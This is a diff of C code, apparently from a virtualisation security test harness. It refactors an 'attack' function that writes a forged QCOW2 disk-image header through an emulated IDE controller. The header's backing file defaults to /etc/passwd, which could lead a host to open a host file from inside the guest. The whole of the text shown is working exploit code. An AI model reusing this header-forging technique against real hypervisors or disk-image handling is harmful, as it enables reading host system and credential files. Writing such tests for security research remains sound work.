@@ -343,31 +343,14 @@ static int pio_write0(const uint8_t *buf)
 	return wait_not_busy(PRI);
 }
 
-static void put_be(uint8_t *p, uint64_t v, int n)
-{
-	for (int i = n - 1; i >= 0; i--, v >>= 8)
-		p[i] = (uint8_t)v;
-}
-
 static int attack(const char *cmdline)
 {
 	static uint8_t h[512];
 	char backing[201] = "/etc/passwd";
-	uint32_t n = 0;
 	int st;
 
 	rt_cmdline_get(cmdline, "backing", backing, sizeof(backing));
-	h[0] = 'Q', h[1] = 'F', h[2] = 'I', h[3] = 0xfb;
-	put_be(h + 4, 3, 4);
-	put_be(h + 8, 0x100, 8);
-	while (backing[n] && n < 200) {
-		h[0x100 + n] = (uint8_t)backing[n];
-		n++;
-	}
-	put_be(h + 16, n, 4);
-	put_be(h + 20, 16, 4);
-	put_be(h + 24, 1 << 20, 8);
-	put_be(h + 100, 104, 4);
+	rt_qcow2_header(h, backing);
 	st = pio_write0(h);
 	rt_printf("ide: header write %s\n", st >= 0 && !(st & ST_ERR) ? "accepted" : "refused");
 	for (int i = 0; i < 512; i++)
